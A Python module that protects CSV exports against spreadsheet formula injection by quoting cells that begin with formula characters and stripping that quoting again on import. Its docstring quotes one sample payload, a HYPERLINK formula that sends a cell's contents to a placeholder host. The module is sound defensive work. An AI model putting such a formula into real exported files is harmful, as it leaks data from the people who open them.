"""CSV cells a spreadsheet would run as formulas: neutralised on export, read back as text.

Customer names, SKUs, supplier names and messages come from strangers; a cell such as
`=HYPERLINK("http://x.example/?"&A1,"Click")` or `@SUM(...)` in an exported file runs when the
merchant opens it in Excel or LibreOffice (OWASP "CSV Injection"). A leading apostrophe makes
every spreadsheet show the cell as text; our own importers strip it again.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?(\d[\d,]*)?(\.\d+)?$")  # -3, 12.50, -1,234.5: data, not a formula
# Apostrophes before a formula character: `read_cell` drops one, so a value that already looks
# like this (a SKU `'=`) gets one more on export and reads back as itself.
_QUOTED_FORMULA = re.compile(r"^'+[=+\-@\t\r]")


def safe_cell(value: object) -> object:
    """`value` as a spreadsheet will show it literally: a string starting with = + - @ tab or
    CR gets a leading `'`. Numbers (and strings that are only a number, like `-3`) are left."""
    if not isinstance(value, str):
        return value
    if _QUOTED_FORMULA.match(value):
        return "'" + value
    if not value.startswith(TRIGGERS):
        return value
    if _NUMBER.match(value) and any(c.isdigit() for c in value):
        return value
    return "'" + value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]


def read_cell(value: str) -> str:
    """An imported cell as text: the `'` that `safe_cell` (or a spreadsheet) put before a
    formula character is dropped; nothing in a cell is ever evaluated."""
    if _QUOTED_FORMULA.match(value):
        return value[1:]
    return value


def excel_with_delimiter(sample: str) -> type[csv.Dialect]:
    """Excel's dialect with the delimiter the sample uses (comma, semicolon or tab).

    Only the delimiter is sniffed: the sniffer turns `doublequote` off when the sample has no
    quotes, and then `"a ""quoted"" word"`, as spreadsheets and our exports write it, splits.
    """
    try:
        delimiter = csv.Sniffer().sniff(sample, delimiters=",;\t").delimiter
    except csv.Error:
        return csv.excel
    return type("SniffedExcel", (csv.excel,), {"delimiter": delimiter})


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """A csv.writer whose every cell goes through `safe_cell`."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Sequence[object]]) -> None:
        for row in rows:
            self.writerow(row)
